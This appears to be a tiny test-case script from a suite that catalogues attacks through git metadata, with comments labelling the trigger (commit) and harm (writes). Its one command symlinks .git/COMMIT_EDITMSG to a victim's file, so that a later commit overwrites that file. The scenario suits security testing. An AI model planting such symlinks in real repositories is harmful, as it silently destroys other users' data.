#!/bin/bash -e
# .git/COMMIT_EDITMSG is a link to a file of the user.
# host: commit
# harm: writes
# alone
ln -sf "$VICTIM/file" "$GITDIR/COMMIT_EDITMSG"
